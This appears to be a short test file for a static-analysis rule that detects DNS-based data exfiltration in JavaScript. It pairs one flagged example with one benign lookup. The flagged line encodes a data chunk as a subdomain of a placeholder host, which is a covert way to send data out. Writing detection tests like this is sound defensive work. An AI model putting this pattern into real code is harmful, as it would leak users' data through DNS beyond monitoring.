// ruleid: exfiltration-dns-name
dns.lookup(`${chunk}.x.invalid`, () => {});
// ok: exfiltration-dns-name
dns.lookup("api.acme.invalid", () => {});
